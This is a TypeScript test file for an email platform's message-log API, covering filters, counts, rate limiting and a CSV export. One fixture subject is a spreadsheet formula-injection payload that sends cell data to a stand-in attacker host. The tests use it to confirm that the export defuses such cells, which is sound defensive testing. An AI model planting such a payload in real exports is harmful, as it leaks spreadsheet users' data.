/** Filters, counts and the export of the message log over HTTP. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { UserDoc } from '../../../services/accounts/store/users.ts'
import { MESSAGES } from '../../../services/mail/store/messages.ts'
import { collectionOf } from '../../../services/platform/database/mongo.ts'
import { csvRows } from '../../../services/platform/tables/rules/csv.ts'
import type { ApiClient } from '../../support/http/api-client.ts'
import { type PanelApi, startPanelApi } from '../../support/http/panel-api.ts'
import { giveMessage } from '../../support/mail/stored-messages.ts'
import { until } from '../../support/time/until.ts'

let api: PanelApi
let client: ApiClient
let user: UserDoc
const START = Date.UTC(2026, 10, 20)
const at = (minute: number) => new Date(START + minute * 60_000)

beforeAll(async () => {
  api = await startPanelApi()
  ;({ user, client } = await api.newUser())
  await giveMessage(api.db, user._id, { created_at: at(0), subject: 'plain' })
  await giveMessage(api.db, user._id, {
    created_at: at(1),
    subject: '=HYPERLINK("https://evil.example/?"&A1,"open")',
    tags: [{ name: 'category', value: 'receipt' }],
    via: { channel: 'http', id: 'key_a' },
    rcpts: [
      {
        ...{ email: 'gone@example.net', type: 'to', status: 'bounced', at: at(2) },
        ...{ code: 550, enhanced: '5.1.1', kind: 'address' },
      },
      { email: '+formula@example.net', type: 'cc', status: 'delivered', kind: 'greylisted', code: 250, at: at(3) },
    ],
  })
  await giveMessage(api.db, user._id, {
    created_at: at(2),
    subject: 'waits, "quoted"\r\nand more',
    from: 'billing@shop.example',
    via: { channel: 'smtp', id: 'smtp_b' },
    rcpts: [{ email: 'a@slow.example', type: 'to', status: 'deferred', code: 421, kind: 'throttled' }],
  })
  const stranger = await api.newUser()
  await giveMessage(api.db, stranger.user._id, { created_at: at(3), subject: 'of another account' })
})
afterAll(() => api.stop())

const subjects = async (query: string) =>
  (await client.get(`/api/v1/emails?${query}`)).body.data.map(({ subject }: { subject: string }) => subject.slice(0, 5))

describe('filters', () => {
  test.each([
    ['reason=address', ['=HYPE']],
    ['reason=throttled&status=deferred', ['waits']],
    ['reason=throttled&status=bounced', []],
    ['status=deferred', ['waits']],
    ['status=deferred&status=bounced', ['waits', '=HYPE']],
    ['status=bounced&status=canceled', ['=HYPE']],
    ['status=bounced&status=bounced', ['=HYPE']],
    ['status=failed&status=canceled', []],
    ['reason=throttled&status=deferred&status=bounced', ['waits']],
    ['submitted_with=key_a', ['=HYPE']],
    ['submitted_with=key_', []],
    ['domain=shop.example&status=deferred', ['waits']],
    ['tag=category:receipt', ['=HYPE']],
    [`since=${at(1).toISOString()}&until=${at(2).toISOString()}`, ['=HYPE']],
  ])('%s', async (query, expected) => {
    expect(await subjects(query)).toEqual(expected)
    expect((await client.get(`/api/v1/emails/count?${query}`)).body).toEqual({
      object: 'count',
      count: expected.length,
      more: false,
    })
  })

  test('a recipient has the class of its failure, one that was delivered has none', async () => {
    const { body } = await client.get('/api/v1/emails?reason=address')
    expect(body.data[0].recipients).toMatchObject([{ reason: 'address', smtp_code: 550 }, { status: 'delivered' }])
    expect(body.data[0].recipients[1].reason).toBeUndefined()
  })

  test.each(['reason=unknown', 'submitted_with=', 'limit=101', 'after=x'])('%s is refused', async query => {
    expect((await client.get(`/api/v1/emails?${query}`)).status).toBe(422)
  })

  test.each([
    ['status=no', 'option'],
    ['status=bounced&status=no', 'option'],
    ['status=', 'option'],
  ])('%s is refused with the statuses that there are', async (query, code) => {
    const { status, body } = await client.get(`/api/v1/emails?${query}`)
    expect([status, body.errors[0].pointer, body.errors[0].code]).toEqual([422, '/status', code])
    expect(body.errors[0].message).toContain('queued, scheduled, deferred, delivered, bounced, failed')
  })

  test('more statuses than there are, are refused', async () => {
    const query = Array.from({ length: 10 }, () => 'status=queued').join('&')
    expect((await client.get(`/api/v1/emails?${query}`)).status).toBe(422)
  })

  test.each(['limit=5', 'after=em_01kabcdefghjkmnpqrstvwxyz0', 'status=no'])('a count refuses %s', async query => {
    expect((await client.get(`/api/v1/emails/count?${query}`)).status).toBe(422)
  })
})

test('test messages and mail to the simulator are left out or shown alone, a recipient domain is exact', async () => {
  const { user: owner, client: own } = await api.newUser()
  const give = (subject: string, emails: string[], test?: true) =>
    giveMessage(api.db, owner._id, {
      ...{ created_at: at(1), subject, ...(test && { test }) },
      rcpts: emails.map((email, n) => ({ email, type: 'to', status: n === 0 ? 'bounced' : 'delivered' })),
    })
  await give('trial', ['one@real.example'], true)
  await give('mixed', ['bounced@simulator.invalid', 'one@real.example'])
  await give('real', ['two@Real.example', 'three@real.example.org'])
  await give('play', ['delivered@simulator.invalid'])
  for (const [query, expected] of [
    ['simulated=false', ['mixed', 'real']],
    ['simulated=true', ['mixed', 'play', 'trial']],
    // The recipient that is not simulated was delivered.
    ['simulated=false&status=bounced', ['real']],
    ['simulated=false&status=bounced&status=delivered', ['mixed', 'real']],
    ['recipient_domain=real.example', ['mixed', 'real', 'trial']],
    ['recipient_domain=REAL.example&simulated=false', ['mixed', 'real']],
    ['recipient_domain=real.example&status=bounced', ['real', 'trial']],
    ['recipient_domain=real.example.org&status=bounced', []],
    ['recipient_domain=eal.example', []],
    ['recipient_domain=real', []],
  ] as const) {
    const { data } = (await own.get(`/api/v1/emails?${query}`)).body
    expect(data.map(({ subject }: { subject: string }) => subject).toSorted(), query).toEqual(expected)
    expect((await own.get(`/api/v1/emails/count?${query}`)).body.count, query).toBe(expected.length)
  }
  expect((await own.get('/api/v1/emails?simulated=maybe')).status).toBe(422)
})

describe('the export', () => {
  const rowsOf = (text: string) => [...csvRows(text.replace('\uFEFF', ''))].filter(row => row.length > 1)

  test('has a row for each recipient, and no cell that a spreadsheet would execute', async () => {
    const { body, headers } = await client.get('/api/v1/emails/export')
    expect(headers.get('content-type')).toContain('text/csv')
    expect(headers.get('content-disposition')).toBe('attachment; filename="messages.csv"')
    expect(headers.get('x-next')).toBeNull()
    const [heading, ...rows] = rowsOf(body)
    const cells = (name: string) => rows.map(row => row[heading?.indexOf(name) ?? -1])
    expect(cells('recipient')).toEqual([
      'a@slow.example',
      'gone@example.net',
      "'+formula@example.net",
      'bob@example.net',
    ])
    expect(cells('status')).toEqual(['deferred', 'bounced', 'delivered', 'delivered'])
    expect(cells('reason')).toEqual(['throttled', 'address', '', ''])
    expect(cells('tags')).toEqual(['', 'category:receipt', 'category:receipt', ''])
    expect(cells('submitted_with')).toEqual(['smtp_b', 'key_a', 'key_a', 'key_1'])
    expect(cells('subject')).toContain('waits, "quoted"\r\nand more')
    expect(cells('subject').filter(cell => cell?.startsWith('='))).toEqual([])
    expect(body).not.toContain('another account')
  })

  test('goes on in parts, of which the first has the heading', async () => {
    const first = await client.get('/api/v1/emails/export?limit=2')
    const next = first.headers.get('x-next')
    expect(rowsOf(first.body)).toHaveLength(4)
    const second = await client.get(`/api/v1/emails/export?limit=2&after=${next}`)
    expect(second.headers.get('x-next')).toBeNull()
    expect(second.body.startsWith('em_')).toBe(true)
    expect(rowsOf(second.body).map(row => row[3])).toEqual(['bob@example.net'])
  })

  test('keeps to the filters and is empty but for its heading without a match', async () => {
    expect(rowsOf((await client.get('/api/v1/emails/export?status=bounced')).body)).toHaveLength(3)
    expect(rowsOf((await client.get('/api/v1/emails/export?status=canceled')).body)).toHaveLength(1)
  })

  test('is limited to the domains of a token', async () => {
    const limited = await api.withToken(user, { domains: ['shop.example'], scopes: ['emails:read'] })
    expect(rowsOf((await limited.get('/api/v1/emails/export')).body)).toHaveLength(2)
    expect((await limited.get('/api/v1/emails/count')).body).toMatchObject({ count: 1 })
  })

  test('one of an account runs at a time; counts, pages and other accounts go on beside it', async () => {
    const busy = await api.newUser()
    const template = await giveMessage(api.db, busy.user._id, { subject: 'x'.repeat(40_000) })
    // More than the sockets hold: the answer goes on until it is read.
    const more = Array.from({ length: 1_500 }, (_, n) => ({
      ...template,
      _id: `${template._id.slice(0, -4)}${String(n).padStart(4, '0')}`,
    }))
    await collectionOf(api.db, MESSAGES).insertMany(more)
    const leaving = new AbortController()
    const running = await busy.client.open('/api/v1/emails/export', leaving.signal)
    expect(running.status).toBe(200)
    const refused = await busy.client.get('/api/v1/emails/export?limit=1')
    expect([refused.status, refused.body.code, refused.body.detail_code, refused.headers.get('retry-after')]).toEqual([
      ...[429, 'rate_limited', 'detail.export_running', '5'],
    ])
    expect((await busy.client.get('/api/v1/emails/count')).body).toMatchObject({ count: 1_000, more: true })
    expect((await busy.client.get('/api/v1/emails?status=delivered')).body.data).toHaveLength(20)
    expect((await client.get('/api/v1/emails/export')).status).toBe(200)
    leaving.abort()
    await until(async () => (await busy.client.get('/api/v1/emails/export?limit=1')).status === 200)
  })

  test('an account with many counts at once is refused some, and no other account', async () => {
    const { client: busy } = await api.newUser()
    const answers = Promise.all(Array.from({ length: 30 }, () => busy.get('/api/v1/emails/count?q=word')))
    expect((await client.get('/api/v1/emails/count')).status).toBe(200)
    const statuses = (await answers).map(({ status }) => status)
    expect(statuses).toContain(200)
    expect(statuses.filter(status => status !== 200 && status !== 429)).toEqual([])
    expect((await busy.get('/api/v1/emails/count')).status).toBe(200)
  })

  test.each(['limit=0', 'limit=10001', 'reason=x'])('%s is refused', async query => {
    expect((await client.get(`/api/v1/emails/export?${query}`)).status).toBe(422)
  })
})
